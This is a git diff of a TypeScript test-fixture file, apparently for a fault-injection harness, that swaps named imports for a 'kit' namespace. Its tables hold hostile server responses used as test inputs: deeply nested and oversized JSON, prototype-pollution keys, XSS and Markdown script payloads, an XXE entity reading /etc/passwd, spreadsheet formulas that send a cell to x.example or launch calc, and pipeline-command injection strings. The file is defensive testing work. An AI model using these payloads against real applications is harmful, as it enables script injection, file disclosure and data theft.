@@ -3,36 +3,21 @@ import type { Change } from '../fault.ts';
 import { on } from '../fault-kit/on.ts';
 import { eachObject, type Loose, recordsIn } from '../fault-kit/responses.ts';
 import { chain } from '../fault-kit/table.ts';
-import {
-  ANY_VERDICT,
-  answers,
-  at,
-  check,
-  FORMATS,
-  hostileTable,
-  inObjects,
-  json,
-  MARKUP,
-  over,
-  type Scene,
-  type Serve,
-  VERDICT,
-  withHeaders,
-} from './kit.ts';
+import * as kit from './kit.ts';
 
 const NAMES_UNREAD = /a body with more than 2,000 different names of fields was not read/;
 
 /** The text of every successful answer, changed as text: JSON.stringify would repair it. */
-function text(change: (body: string) => string): Serve {
-  return over(on.anything.changeResponse((response) => ({ ...response, body: change(response.body) })));
+function text(change: (body: string) => string): kit.Serve {
+  return kit.over(on.anything.changeResponse((response) => ({ ...response, body: change(response.body) })));
 }
 
-function inRecords(change: (record: Loose) => void): Serve {
-  return over(on.anything.changeRecords(change));
+function inRecords(change: (record: Loose) => void): kit.Serve {
+  return kit.over(on.anything.changeRecords(change));
 }
 
 /** A field of all records of sales, with this JSON text as its value. */
-function total(value: string): Serve {
+function total(value: string): kit.Serve {
   return text((body) => body.replace(/"total":[\d.]+/g, `"total":${value}`));
 }
 
@@ -70,17 +55,17 @@ const PROTOTYPE =
   '"__proto__":{"polluted":1,"toString":1},"constructor":{"prototype":{"polluted":1}},"hasOwnProperty":1,"then":1,"toJSON":1,"length":1e9,';
 
 /** JSON that is hard to read, to keep or to count with. */
-export const valueRows = hostileTable`
-  1,3,4 deep-lists: Two million lists within each other, in every body ${json(nested('[', ']', 2_000_000))}
+export const valueRows = kit.hostileTable`
+  1,3,4 deep-lists: Two million lists within each other, in every body ${kit.json(nested('[', ']', 2_000_000))}
   1,3 deep-objects-in-products: Half a million objects within each other, in one list
-    ${at('/products', json(`{"data":[${'{"a":'.repeat(500_000)}1${'}'.repeat(500_000)}]}`))}
+    ${kit.at('/products', kit.json(`{"data":[${'{"a":'.repeat(500_000)}1${'}'.repeat(500_000)}]}`))}
   1,3 wide-records: Sales with twenty thousand fields more
-    ${at('/sales', json(`{"data":[{${many(20_000)}}],"pagination":{"nextCursor":null}}`))}
+    ${kit.at('/sales', kit.json(`{"data":[{${many(20_000)}}],"pagination":{"nextCursor":null}}`))}
   3 many-names: Sales with two million fields more, in 28 MB
-    ${{ serves: at('/sales', json(`{"data":[{${many(2_000_000)}}],"pagination":{"nextCursor":null}}`)), says: VERDICT }}
+    ${{ serves: kit.at('/sales', kit.json(`{"data":[{${many(2_000_000)}}],"pagination":{"nextCursor":null}}`)), says: kit.VERDICT }}
   1,3 many-names-everywhere: Each record of every list has a thousand fields of its own
     ${{
-      serves: over(
+      serves: kit.over(
         on.lists.changeBody((body) =>
           recordsIn(body).forEach((record, index) => {
             for (let field = 0; field < 1000; field += 1) record[`field${index}x${field}`] = field;
@@ -90,27 +75,27 @@ export const valueRows = hostileTable`
       says: NAMES_UNREAD,
     }}
   0,1,3 many-new-names: Every answer has fifteen hundred names that no other has
-    ${over(on.anything.changeBody(newNames(1500)))}
+    ${kit.over(on.anything.changeBody(newNames(1500)))}
   1,3 many-names-in-errors: Every refusal has twenty thousand fields
-    ${{ serves: over(on.anything.addsToError([400, 401, 403, 404, 405], () => MANY_FIELDS)), says: ANY_VERDICT }}
+    ${{ serves: kit.over(on.anything.addsToError([400, 401, 403, 404, 405], () => MANY_FIELDS)), says: kit.ANY_VERDICT }}
   0,1,3 many-new-names-in-errors: Every refusal has fifteen hundred names that no other has
-    ${over(on.anything.addsToError([400, 401, 403, 404, 405], () => newFields(1500)))}
+    ${kit.over(on.anything.addsToError([400, 401, 403, 404, 405], () => newFields(1500)))}
   1,3 many-places: Names within names, which make ninety thousand places of a few
-    ${{ serves: at('/products', json(`{"data":[${placesOf(300)}]}`)), says: NAMES_UNREAD }}
+    ${{ serves: kit.at('/products', kit.json(`{"data":[${placesOf(300)}]}`)), says: NAMES_UNREAD }}
   1,3 many-records: A page of a hundred thousand empty records
-    ${at('/products', json(`{"data":[${Array(100_000).fill('{}').join(',')}]}`))}
+    ${kit.at('/products', kit.json(`{"data":[${Array(100_000).fill('{}').join(',')}]}`))}
   1,3 long-text: A name of twenty megabytes
-    ${at('/products', json(`{"data":[{"id":"a","name":"${'x'.repeat(20 * 2 ** 20)}"}]}`))}
+    ${kit.at('/products', kit.json(`{"data":[{"id":"a","name":"${'x'.repeat(20 * 2 ** 20)}"}]}`))}
   1,3 long-names: Fields whose names have a megabyte
-    ${at('/stores', json(`{"data":[{"${'n'.repeat(2 ** 20)}":1,"id":"a","name":"b","branchNo":"c"}]}`))}
+    ${kit.at('/stores', kit.json(`{"data":[{"${'n'.repeat(2 ** 20)}":1,"id":"a","name":"b","branchNo":"c"}]}`))}
   1,3 prototype-keys: Every object names what all objects inherit
     ${text((body) => body.replaceAll('{', `{${PROTOTYPE}`).replaceAll(',}', '}'))}
   0,1,3 duplicate-keys: Every object names its fields twice
     ${text((body) => body.replace(/"id":("[^"]*")/g, '"id":"first","id":null,"id":$1'))}
   1,3 invalid-utf-8: Texts with bytes that are not UTF-8
-    ${at(
+    ${kit.at(
       '/products',
-      json(
+      kit.json(
         Buffer.concat([
           Buffer.from('{"data":[{"id":"'),
           Buffer.from([0xff, 0xc0, 0xaf, 0xed, 0xa0, 0x80]),
@@ -131,9 +116,9 @@ export const valueRows = hostileTable`
   1,3 everything-null: Every value of every record is null
     ${inRecords((record) => Object.assign(record, Object.fromEntries(Object.keys(record).map((name) => [name, null]))))}
   1,3 everything-a-list: Every object is wrapped in a list
-    ${over(on.anything.changeBody((body) => void eachObject(body.data, (object) => Object.assign(object, wrapped(object)))))}
+    ${kit.over(on.anything.changeBody((body) => void eachObject(body.data, (object) => Object.assign(object, wrapped(object)))))}
   1,3 data-is-an-object: A list whose records have names, such as length
-    ${over(
+    ${kit.over(
       on.lists.changeBody((body) => {
         body.data = { length: 1e9, 0: {}, map: 'x', [Symbol.iterator.toString()]: 1 };
       }),
@@ -141,11 +126,11 @@ export const valueRows = hostileTable`
   1,3 impossible-times: Times that no calendar has
     ${text((body) => body.replace(/"createdAt":"[^"]*"/g, '"createdAt":"+275761-13-45T99:99:99.999Z"'))}
   0,1,3 byte-order-mark: A mark in front of every body ${{ serves: text((body) => `\ufeff${body}`), says: /./ }}
-  1,3 two-values: Two JSON values in one body ${at('/products', json('{"data":[]}{"data":[{}]}'))}
-  1,3,4 text-for-everything: A JSON text in place of every answer ${answers(200, {}, '"hostile"')}
-  1,3,4 empty-object-for-everything: An empty object in place of every answer ${json('{}')}
+  1,3 two-values: Two JSON values in one body ${kit.at('/products', kit.json('{"data":[]}{"data":[{}]}'))}
+  1,3,4 text-for-everything: A JSON text in place of every answer ${kit.answers(200, {}, '"hostile"')}
+  1,3,4 empty-object-for-everything: An empty object in place of every answer ${kit.json('{}')}
   1,3 empty-list-for-everything: An empty list in place of every answer
-    ${json('{"data":[],"pagination":{"nextCursor":null}}')}
+    ${kit.json('{"data":[],"pagination":{"nextCursor":null}}')}
 `;
 
 function wrapped(object: Loose): Record<string, Json> {
@@ -165,7 +150,7 @@ function everywhere(text: string): Change {
         [text]: text,
       }),
     ),
-    inObjects(on.me, (object) => void Object.assign(object, { name: text, prefix: text, last4: text })),
+    kit.inObjects(on.me, (object) => void Object.assign(object, { name: text, prefix: text, last4: text })),
     on.document.changeBody((body) =>
       Object.assign(body, { openapi: text, info: { title: text, version: text, description: text }, [text]: text }),
     ),
@@ -181,12 +166,16 @@ function inHeader(text: string): string {
   return text.replace(/[^\t\x20-\x7e\x80-\xff]/g, '?').slice(0, 500);
 }
 
-function texts(text: string): Scene {
-  return { serves: over(everywhere(text)), command: check({ formats: FORMATS, more: ['--bundle'] }), says: VERDICT };
+function texts(text: string): kit.Scene {
+  return {
+    serves: kit.over(everywhere(text)),
+    command: kit.check({ formats: kit.FORMATS, more: ['--bundle'] }),
+    says: kit.VERDICT,
+  };
 }
 
 /** Texts that something behind us would act on: a terminal, a pipeline, a browser, a shell, a spreadsheet. */
-export const textRows = hostileTable`
+export const textRows = kit.hostileTable`
   1 workflow-commands: Texts that are commands to a pipeline, behind line breaks of every kind
     ${texts('::error title=x::owned\n::set-output name=x::y\r::add-mask::x\u2028::stop-commands::x\n##vso[task.setvariable variable=x]y\n%0A::error::z')}
   1 workflow-commands-in-actions: The same where GitHub Actions reads the annotations
@@ -196,11 +185,11 @@ export const textRows = hostileTable`
   1 reversed-text: Texts that change the direction in which they are read
     ${texts('\u202egnp.exe\u2066\u2069\u200f\u061c\u200b\ufeff')}
   1 html: Texts that are markup with scripts
-    ${texts(`"'>${MARKUP} onload=alert(1)></script><script>alert(1)</script><img src=x onerror=alert(1)><!--<svg/onload=alert(1)>`)}
+    ${texts(`"'>${kit.MARKUP} onload=alert(1)></script><script>alert(1)</script><img src=x onerror=alert(1)><!--<svg/onload=alert(1)>`)}
   1 markdown: Texts that are links, images and tables of Markdown
-    ${texts(`![x](http://x.example/track.png) [click](javascript:alert(1)) | a | b |\n|---|---|\n\`\`\`\n# owned ${MARKUP} x=1>\n<details open ontoggle=alert(1)>`)}
+    ${texts(`![x](http://x.example/track.png) [click](javascript:alert(1)) | a | b |\n|---|---|\n\`\`\`\n# owned ${kit.MARKUP} x=1>\n<details open ontoggle=alert(1)>`)}
   1 xml: Texts that end a section of XML, or name entities
-    ${texts(`]]>${MARKUP}/><!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;&#0;\u0000\u0001\ufffe\uffff`)}
+    ${texts(`]]>${kit.MARKUP}/><!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;&#0;\u0000\u0001\ufffe\uffff`)}
   1 formulas: Texts that a spreadsheet would compute
     ${texts('=HYPERLINK("http://x.example?"&A1,"x")\n+cmd|\' /C calc\'!A0\n@SUM(1)\n-2+3')}
   1 shell: Texts that a shell would run, in every line of curl too
@@ -212,5 +201,5 @@ export const textRows = hostileTable`
   1 near-matches: Texts that almost look like telephone numbers, addresses and keys, again and again
     ${texts(`${'+66 9-'.repeat(500)}${'a@'.repeat(500)}${'9 '.repeat(500)}${'cp_live_'.repeat(150)}`)}
   0,1,3 headers-with-texts: Headers that are commands to a pipeline
-    ${{ ...texts(''), says: ANY_VERDICT, serves: withHeaders(() => ({ server: '::error::owned', 'x-request-id': '::set-output name=a::b', 'content-type': 'application/json; ::error::x' })) }}
+    ${{ ...texts(''), says: kit.ANY_VERDICT, serves: kit.withHeaders(() => ({ server: '::error::owned', 'x-request-id': '::set-output name=a::b', 'content-type': 'application/json; ::error::x' })) }}
 `;
